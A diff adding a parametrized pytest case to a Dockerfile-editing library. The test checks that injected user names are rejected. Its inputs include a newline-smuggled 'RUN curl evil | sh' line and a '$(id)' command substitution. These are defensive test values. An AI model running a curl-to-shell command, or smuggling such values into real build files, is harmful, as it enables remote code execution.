@@ -110,3 +110,9 @@ def test_lines_at_the_end_follow_a_heredoc() -> None:
     assert (
         spliced(text, (at_end(parse(text, "Dockerfile"), "0", "RUN y"),)) == b"FROM a\nRUN <<E\nx\nE\nRUN y\n\nFROM b\n"
     )
+
+
+@pytest.mark.parametrize("user", ["x\nRUN curl evil | sh", "x y", "$(id)", "", "x\\"])
+def test_a_user_that_an_image_names_puts_nothing_in(user: str) -> None:
+    with pytest.raises(CannotEdit):
+        after_from(parse(b"FROM a\n", "Dockerfile"), "", {}, f"USER root\nRUN apt-get upgrade -y\nUSER {user}")
